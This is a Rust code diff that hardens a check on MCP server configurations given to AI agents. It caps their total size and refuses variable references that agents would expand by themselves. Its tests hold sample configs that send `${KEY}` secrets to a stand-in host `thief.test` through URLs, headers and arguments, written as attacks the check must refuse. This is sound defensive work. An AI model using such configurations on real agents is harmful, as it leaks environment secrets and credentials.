@@ -46,6 +46,9 @@ pub enum McpTransport {
 /// How many servers a session may give its agent.
 pub const MOST_SERVERS: usize = 64;
 
+/// How many bytes their descriptions may have together: they are part of every row of the session.
+pub const MOST_BYTES: usize = 64 << 10;
+
 /// What is wrong with a list of servers.
 #[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
 pub enum BadServers {
@@ -58,12 +61,20 @@ pub enum BadServers {
     /// More than a session may have.
     #[error("there are {0} MCP servers; a session may have {MOST_SERVERS}")]
     TooMany(usize),
+    /// Longer than a session may have.
+    #[error("the MCP servers are described in {0} bytes; a session may have {MOST_BYTES}")]
+    TooLarge(usize),
     /// A variable that is not a session's to use.
     #[error(
         "`${{{0}}}` is none of the variables that sessions may give to MCP servers; the owner lists those in `mcp_env` \
          of config.toml"
     )]
     Variable(String),
+    /// A text in which agents would put variables of their environment by themselves.
+    #[error(
+        "the MCP server `{0}` has a `$` with a name after it, where some agents put variables of the hub's environment:          a variable can only be the whole value of one of `env` or `headers`, as `${{NAME}}`"
+    )]
+    Expands(String),
 }
 
 /// Whether a variable may be told to any server at all. Our own hold tokens and settings.
@@ -71,17 +82,39 @@ pub fn may_be_told(variable: &str) -> bool {
     !variable.starts_with("LONGSHORE_")
 }
 
-/// Whether the variables that these servers want are among those that sessions may use.
+/// Whether the variables that these servers want are among those that sessions may use, and stand where only we put them in.
+///
+/// Claude Code has `${NAME}` replaced wherever it stands, Gemini also `$NAME` in values; they know no list.
 pub fn check_variables(servers: &[McpServer], allowed: &[String]) -> Result<(), BadServers> {
-    let mut wanted = servers.iter().flat_map(|server| server.transport.variables());
-    let refused = wanted.find(|name| !may_be_told(name) || !allowed.iter().any(|known| known == name));
-    refused.map_or(Ok(()), |name| Err(BadServers::Variable(name.to_owned())))
+    for McpServer { name, transport } in servers {
+        let expands = || Err(BadServers::Expands(name.clone()));
+        for value in transport.values() {
+            match variable_of(value) {
+                Some(wanted) if may_be_told(wanted) && allowed.iter().any(|known| known == wanted) => {}
+                Some(wanted) => return Err(BadServers::Variable(wanted.to_owned())),
+                None if names_a_variable(value) => return expands(),
+                None => {}
+            }
+        }
+        if transport.other_texts().any(|text| text.contains("${")) {
+            return expands();
+        }
+    }
+    Ok(())
 }
 
 /// Whether these can be given to an agent.
 pub fn check(servers: &[McpServer]) -> Result<(), BadServers> {
     if servers.len() > MOST_SERVERS {
         return Err(BadServers::TooMany(servers.len()));
+    }
+    let texts = servers.iter().flat_map(|server| {
+        let transport = &server.transport;
+        transport.values().chain(transport.other_texts()).chain([server.name.as_str()])
+    });
+    let bytes: usize = texts.map(|text| text.len() + 8).sum();
+    if bytes > MOST_BYTES {
+        return Err(BadServers::TooLarge(bytes));
     }
     for (place, McpServer { name, .. }) in servers.iter().enumerate() {
         let fits = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_';
@@ -114,19 +147,38 @@ impl McpTransport {
         }
     }
 
-    /// The variables that stand in it.
-    fn variables(&self) -> impl Iterator<Item = &str> {
-        let values = match self {
-            Self::Stdio { env, .. } => env.values(),
-            Self::Http { headers, .. } => headers.values(),
+    fn pairs(&self) -> &BTreeMap<String, String> {
+        match self {
+            Self::Stdio { env, .. } => env,
+            Self::Http { headers, .. } => headers,
+        }
+    }
+
+    /// The texts that may stand for a variable.
+    fn values(&self) -> impl Iterator<Item = &str> {
+        self.pairs().values().map(String::as_str)
+    }
+
+    /// The texts that stand for nothing else.
+    fn other_texts(&self) -> impl Iterator<Item = &str> {
+        let (first, args) = match self {
+            Self::Stdio { command, args, .. } => (command, args.as_slice()),
+            Self::Http { url, .. } => (url, [].as_slice()),
         };
-        values.filter_map(|value| variable_of(value))
+        std::iter::once(first).chain(args).chain(self.pairs().keys()).map(String::as_str)
     }
 }
 
 /// The name in `${NAME}`.
 fn variable_of(value: &str) -> Option<&str> {
-    value.strip_prefix("${")?.strip_suffix('}')
+    let name = value.strip_prefix("${")?.strip_suffix('}')?;
+    (!name.contains(['$', '{', '}'])).then_some(name)
+}
+
+/// Whether somewhere in a text a `$` has a name after it, in braces or not.
+fn names_a_variable(text: &str) -> bool {
+    let begins = |c: char| c == '{' || c == '_' || c.is_ascii_alphabetic();
+    text.split('$').skip(1).any(|rest| rest.starts_with(begins))
 }
 
 #[cfg(test)]
@@ -152,8 +204,9 @@ mod tests {
 
     #[test]
     fn a_session_uses_the_variables_that_are_listed_and_never_ours() {
-        let server =
-            read(r#"{"name":"docs","url":"https://docs.test","headers":{"x":"${DOCS_KEY}","y":"$z"}}"#);
+        let server = read(
+            r#"{"name":"docs","url":"https://docs.test/?$top=1","headers":{"x":"${DOCS_KEY}","y":"$5"}}"#,
+        );
         let allowed = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect::<Vec<_>>();
         assert_eq!(check_variables(std::slice::from_ref(&server), &allowed(&["DOCS_KEY"])), Ok(()));
         let refused = check_variables(&[server], &allowed(&["OTHER"]));
@@ -164,11 +217,35 @@ mod tests {
     }
 
     #[test]
+    fn no_agent_is_given_a_text_in_which_it_would_put_variables_by_itself() {
+        for text in [
+            r#"{"name":"t","url":"https://thief.test/${KEY}"}"#,
+            r#"{"name":"t","url":"https://thief.test","headers":{"x":"Bearer ${KEY}"}}"#,
+            r#"{"name":"t","url":"https://thief.test","headers":{"x":"Bearer $KEY"}}"#,
+            r#"{"name":"t","url":"https://thief.test","headers":{"x":"${KEY}${OTHER}"}}"#,
+            r#"{"name":"t","url":"https://thief.test","headers":{"${KEY}":"x"}}"#,
+            r#"{"name":"t","command":"x","args":["--key","${KEY:-none}"]}"#,
+            r#"{"name":"t","command":"${KEY}"}"#,
+            r#"{"name":"t","command":"x","env":{"A":"a$KEY"}}"#,
+        ] {
+            let refused = check_variables(&[read(text)], &["KEY".to_owned(), "OTHER".to_owned()]);
+            assert_eq!(refused, Err(BadServers::Expands("t".to_owned())), "{text}");
+        }
+    }
+
+    #[test]
     fn names_must_fit_into_names_of_tools_and_be_told_apart() {
         let named = |name: &str| read(&format!(r#"{{"name":"{name}","command":"x"}}"#));
         assert_eq!(check(&[named("a"), named("b-2_c")]), Ok(()));
         assert_eq!(check(&[named("a.b")]), Err(BadServers::Name("a.b".to_owned())));
         assert_eq!(check(&[named("a"), named("a")]), Err(BadServers::Twice("a".to_owned())));
         assert_eq!(check(&vec![named("a"); 65]), Err(BadServers::TooMany(65)));
+        let long = McpTransport::Stdio {
+            command: "x".to_owned(),
+            args: vec!["y".repeat(MOST_BYTES)],
+            env: BTreeMap::new(),
+        };
+        let long = McpServer { name: "a".to_owned(), transport: long };
+        assert!(matches!(check(&[long]), Err(BadServers::TooLarge(bytes)) if bytes > MOST_BYTES));
     }
 }
